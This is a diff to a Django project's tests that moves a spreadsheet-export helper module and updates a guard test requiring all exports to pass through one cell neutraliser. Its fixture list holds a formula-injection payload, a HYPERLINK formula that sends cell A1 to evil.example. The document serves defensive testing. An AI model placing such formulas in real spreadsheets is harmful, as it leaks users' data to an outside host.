@@ -14,9 +14,9 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from kefu.contacts.services import contact_create
+from kefu.core.exports import CsvWriter, cell
 from kefu.core.models import User
 from kefu.customers.services import customer_create
-from kefu.web.exports import CsvWriter, cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"点此")',
@@ -96,7 +96,7 @@ def test_list_exports_write_names_summaries_and_titles_as_text(
 
 
 def test_every_writer_of_spreadsheets_goes_through_the_one_neutraliser() -> None:
-    """A new export (a customer's data, a report) must use kefu.web.exports, not its own
+    """A new export (a customer's data, a report) must use kefu.core.exports, not its own
     openpyxl or csv writer: that is where cells are neutralised."""
     from pathlib import Path
 
@@ -114,7 +114,7 @@ def test_every_writer_of_spreadsheets_goes_through_the_one_neutraliser() -> None
     }
     unguarded = {
         name
-        for name in writers - {"web/exports.py"}
-        if "from kefu.web.exports import" not in (root / name).read_text(encoding="utf-8")
+        for name in writers - {"core/exports.py"}
+        if "from kefu.core.exports import" not in (root / name).read_text(encoding="utf-8")
     }
     assert writers and unguarded == set()
